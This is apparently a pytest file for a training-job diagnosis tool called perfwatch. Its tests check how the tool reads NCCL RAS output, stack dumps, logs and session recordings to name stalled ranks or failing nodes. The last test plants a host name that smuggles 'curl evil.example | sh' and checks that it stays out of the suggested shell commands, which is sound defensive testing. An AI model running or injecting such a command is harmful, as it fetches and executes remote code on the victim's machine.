"""RAS answers and stacks of a job that stood, where there are no dumps of its flight recorders; and recorded sessions."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from perfwatch.autopsy.sessions import Judged
from perfwatch.gauntlet.recorded import cases
from perfwatch.postmortem import diagnose
from perfwatch.report.moment import told_first
from tests.autopsy.left_files import judged, ranks
from tests.recorded import RECORDINGS, load_case, session_of


def answer(counts: dict[int, int], missing: tuple[int, ...] = ()) -> str:
    """What RAS says of one communicator, as NCCL 2.28 writes it."""
    status = {"init_state": 0, "async_error": 0, "finalize_called": False, "destroy_flag": False, "abort_flag": False}
    members = [
        {"rank": rank, "host": "10.0.0.1", "pid": 600 + rank, "cuda_dev": rank, "nvml_dev": rank, "status": status,
         "collective_counts": {"AllReduce": count, "Broadcast": 3}} for rank, count in counts.items()
    ]  # fmt: skip
    absent = [
        {"rank": rank, "host": "10.0.0.2", "pid": 700 + rank, "cuda_dev": 0, "nvml_dev": 0,
         "status": {"unresponsive": True, "considered_dead": True}} for rank in missing
    ]  # fmt: skip
    size = len(members) + len(absent)
    group: dict[str, Any] = {"hash": "0xa1b2", "size": size, "ranks_count": len(members), "ranks": members,
                             "missing_ranks_count": len(absent), "missing_ranks": absent}  # fmt: skip
    return json.dumps({"nccl_version": "2.28.9", "communicators_count": 1, "communicators": [group]})


def stack(pid: int, function: str, file: str, line: int) -> str:
    """A dump of a process, as py-spy prints it."""
    called = "    all_reduce (torch/distributed/distributed_c10d.py:3012)\n" if function == "all_reduce" else ""
    called = called.replace("torch/", "/opt/venv/lib/python3.11/site-packages/torch/")
    own = f"    {'step' if called else function} ({file}:{line})\n"
    return (
        f"Process {pid}: python train.py\nPython v3.11.7 (/usr/bin/python3.11)\n\n"
        f'Thread {pid + 5} (idle): "pt_nccl_watchdg"\n    run (/usr/lib/python3.11/threading.py:982)\n'
        f'Thread {pid} (active+gil): "MainThread"\n{called}{own}    <module> (/srv/train.py:80)\n'
    )


def pystack(pid: int, function: str, file: str, line: int) -> str:
    """The same as pystack prints it."""
    called = '    (Python) File "/opt/venv/lib/python3.11/site-packages/torch/distributed/distributed_c10d.py", line 3012, in all_reduce\n'
    own = f'    (Python) File "{file}", line {line}, in {"step" if function == "all_reduce" else function}\n        x = y\n'
    return (
        f"Traceback for thread {pid + 5} (python3) [] (most recent call last):\n"
        '    (Python) File "/usr/lib/python3.11/threading.py", line 982, in run\n\n'
        f"Traceback for thread {pid} (python3) [Has the GIL] (most recent call last):\n"
        '    (C) File "Python/pythonrun.c", line 1291, in run_mod (/usr/lib/libpython3.11.so)\n'
        f'    (Python) File "/srv/train.py", line 80, in <module>\n{own}{called if function == "all_reduce" else ""}'
    )


def gdb(pid: int, function: str, file: str, line: int) -> str:
    """The same as gdb prints it with python-gdb.py loaded."""
    frame = "f=Frame 0x7f01, for file {at}, line {line}, in {name} (x=1)"
    evaluated = "#{n}  0x00007f1 in _PyEval_EvalFrameDefault (tstate=0x1, " + frame + ") at c.c:9\n"
    torch = "/opt/venv/lib/python3.11/site-packages/torch/distributed/distributed_c10d.py"
    called = evaluated.format(n=1, at=torch, line=3012, name="all_reduce") if function == "all_reduce" else ""
    own = evaluated.format(n=2, at=file, line=line, name="step" if called else function)
    return (
        f"[New LWP {pid + 5}]\n0x00007f1 in futex_wait () from /lib/libc.so.6\n\n"
        f'Thread 2 (Thread 0x7f5 (LWP {pid + 5}) "pt_nccl_watchdg"):\n#0  0x00007f1 in futex_wait (a=1) from /lib/libc.so.6\n\n'
        f'Thread 1 (Thread 0x7f6 (LWP {pid}) "python"):\n#0  0x00007f1 in poll () from /lib/libc.so.6\n{called}{own}'
    )


def write(folder: Path, **texts: str) -> Path:
    """A folder of files by name."""
    for name, text in texts.items():
        (folder / name).write_text(text)
    return folder


def test_a_rank_that_called_less_often_is_at_fault_surely_where_two_answers_agree(tmp_path: Path) -> None:
    """Of one answer alone it is to be checked."""
    counts = {0: 90, 1: 88, 2: 90}
    once = judged(write(tmp_path, ras_1=answer(counts)))
    twice = judged(write(tmp_path, ras_2=answer(counts)))

    assert (twice.state, twice.cause) == ("hung", "stalled_collective")
    assert ranks(once) == ranks(twice) == [1]
    assert once.confidence < 0.8 < twice.confidence
    assert (twice.culprits[0].pid, twice.culprits[0].host) == (601, "10.0.0.1")


def test_counts_that_grow_are_of_a_job_that_goes_on(tmp_path: Path) -> None:
    """Its ranks are a few launches apart, as of any."""
    verdict = judged(write(tmp_path, ras_1=answer({0: 90, 1: 88}), ras_2=answer({0: 120, 1: 121})))

    assert verdict.state == "inconclusive"


def test_a_rank_that_ras_does_not_reach_is_at_fault(tmp_path: Path) -> None:
    """It is dead, or its machine is."""
    assert ranks(judged(write(tmp_path, ras=answer({0: 90, 1: 90}, missing=(2,))))) == [2]


@pytest.mark.parametrize("printed", [stack, pystack, gdb])
@pytest.mark.parametrize("suffix", ["", ".txt"])
def test_stacks_alone_show_who_was_elsewhere(tmp_path: Path, suffix: str, printed: Callable[..., str]) -> None:
    """One rank in its own code, the others in a collective: to be checked, for a stack is of one moment."""
    for rank in (0, 1, 2):
        text = printed(600 + rank, "all_reduce" if rank != 1 else "load_shard", "/srv/data.py", 41)
        (tmp_path / f"rank_{rank}{suffix}").write_text(text)
    verdict = judged(tmp_path)

    assert (verdict.cause, ranks(verdict)) == ("stalled_collective", [1])
    assert verdict.culprits[0].frame == "load_shard (data.py:41)"
    assert verdict.culprits[0].pid == 601
    assert verdict.confidence < 0.8


def test_stacks_in_which_nobody_waits_tell_nothing(tmp_path: Path) -> None:
    """Missing is not zero."""
    for rank in (0, 1):
        (tmp_path / f"rank_{rank}").write_text(stack(600 + rank, "load_shard", "/srv/data.py", 41))

    assert judged(tmp_path).state == "inconclusive"


def session(folder: Path, case: str, **changes: Any) -> Path:
    """A recorded case as a session, with other facts in its description."""
    made = session_of(RECORDINGS / case, folder)
    facts = json.loads((made / "session.json").read_text())
    (made / "session.json").write_text(json.dumps({**facts, **changes}, separators=(",", ":")))
    return made


HUNG, KILLED = "stalled_collective/fires/stalled_collective", "killed/fires/killed"
COMMAND = ["torchrun", "train.py"]


@pytest.mark.parametrize(
    "case",
    [one for one in cases(RECORDINGS) if one.parent.parent.name in ("stalled_collective", "stuck_worker", "crashed")],
)
def test_of_a_session_the_verdict_is_that_of_replay(case: Path, tmp_path: Path) -> None:
    """The last one on the living job, or its end; with the same culprits."""
    recording = load_case(case)
    expected, _ = told_first(recording, lambda at: Judged(diagnose(recording.until(at), at)))
    verdict = judged(session_of(case, tmp_path / "session"))

    assert (verdict.state, verdict.cause) == (expected.verdict.state, expected.verdict.cause)
    assert [(one.rank, one.pid, one.frame) for one in verdict.culprits] == [
        (one.rank, one.pid, one.frame) for one in expected.verdict.culprits
    ]
    assert verdict.coverage == expected.verdict.coverage
    assert not any(step.startswith("perfwatch capture") for step in verdict.next)


@pytest.mark.parametrize(
    ("line", "state", "sub_cause"),
    [
        (
            "2026-11-29 12:33:00 [rank0]: RuntimeError: Timed out waiting 600000ms for recv operation to complete",
            "hung",
            None,
        ),
        ("2026-11-29 12:33:00 [rank0]: FileNotFoundError: [Errno 2] No such file or directory: '/tmp/x'", "hung", None),
        ("2026-11-29 12:22:00 [rank1]: torch.OutOfMemoryError: CUDA out of memory.", "gone", "cuda_out_of_memory"),
    ],
)
def test_a_hang_that_was_seen_explains_what_a_log_says_later(
    line: str, state: str, sub_cause: str | None, tmp_path: Path
) -> None:
    """An end of its own from before the hang explains the hang."""
    (tmp_path / "train.log").write_text(f"{line}\n")
    verdict = judged(session(tmp_path / "session", HUNG), tmp_path / "train.log")

    assert (verdict.state, verdict.sub_cause) == (state, sub_cause)
    assert ranks(verdict) == [1]
    assert {one.state for one in verdict.findings} >= ({"gone"} if state == "hung" else {"hung"})


def test_a_log_explains_an_end_that_was_seen_from_outside(tmp_path: Path) -> None:
    """The recording knows SIGKILL, the kernel's log why."""
    made = session(tmp_path / "session", KILLED)
    pid = judged(made).culprits[0].pid
    (tmp_path / "dmesg").write_text(f"[1.0] Memory cgroup out of memory: Killed process {pid} (python) total-vm:9kB\n")
    verdict = judged(made, tmp_path / "dmesg")

    assert (verdict.cause, verdict.sub_cause) == ("out_of_memory", "cgroup_out_of_memory")


def test_sessions_of_one_command_are_attempts_of_one_job(tmp_path: Path) -> None:
    """On different nodes one after the other; a session of another command is left out."""
    machine = {"kernel": "6.1", "architecture": "x86_64", "cpus": 8, "memory_bytes": 2**34, "boot_id": ""}
    for number, host in enumerate(("node-a", "node-b", "node-b")):
        facts = {"machine": {**machine, "name": host}, "command": COMMAND, "created": 1_795_175_484.0 + 900 * number}
        session(tmp_path / f"s{number}", KILLED, **facts)
    session(tmp_path / "other", HUNG, command=["python", "other.py"], created=1_795_175_000.0)
    verdict = judged(tmp_path)
    told = [one for one in verdict.evidence if one.witness == "attempts"]

    assert [one.claim for one in told] == ["ended by sigkill"] * 3
    assert "3 attempts ended, each by sigkill" in verdict.summary
    assert "suspect that node" not in verdict.summary
    assert [one.witness for one in verdict.missing if "another job" in one.reason] == ["other/session.json"]


def test_a_node_that_fails_whoever_runs_on_it_is_suspect(tmp_path: Path) -> None:
    """Beside it there were others, and it was not always the same rank."""
    said = "{time},000 - ERROR - x\n[rank{rank}]: RuntimeError: CUDA error: unknown error\n"
    for hour, rank in ((10, 3), (11, 5)):
        for host, end in (("node-a", ""), ("node-b", said.format(time=f"2026-11-29 {hour}:30:00", rank=rank))):
            folder = tmp_path / str(hour)
            folder.mkdir(exist_ok=True)
            pod = f"[pod/{host}/main] "
            text = f"2026-11-29 {hour}:00:00,000 - INFO - hello\n" + "".join(
                f"{pod}{line}\n" for line in end.splitlines()
            )
            text += f"{pod}2026-11-29 {hour}:31:00,000 - ERROR - RuntimeError: Connection closed by peer [10.0.0.3]\n"
            (folder / f"{host}.log").write_text(text)
    verdict = judged(tmp_path / "10", tmp_path / "11")

    assert "each time on node-b: suspect that node" in verdict.summary
    assert "scontrol update nodename=node-b" in verdict.next[0]


def test_a_name_that_is_no_hosts_name_gets_into_no_command(tmp_path: Path) -> None:
    """What to do next is pasted into shells."""
    machine = {"kernel": "6.1", "architecture": "x86_64", "cpus": 8, "memory_bytes": 2**34, "boot_id": ""}
    for number in (0, 1):
        facts = {"machine": {**machine, "name": "x; curl evil.example | sh"}, "command": COMMAND}
        session(tmp_path / f"s{number}", KILLED, **facts, created=1_795_175_484.0 + 900 * number)
    session(
        tmp_path / "beside",
        "finished/fires/finished",
        machine={**machine, "name": "node-a"},
        command=COMMAND,
        created=1_795_175_484.0,
    )
    verdict = judged(tmp_path)

    assert "suspect that node" in verdict.summary
    assert verdict.next[0] == "start the job without that node"
    assert not any("curl" in step for step in verdict.next)
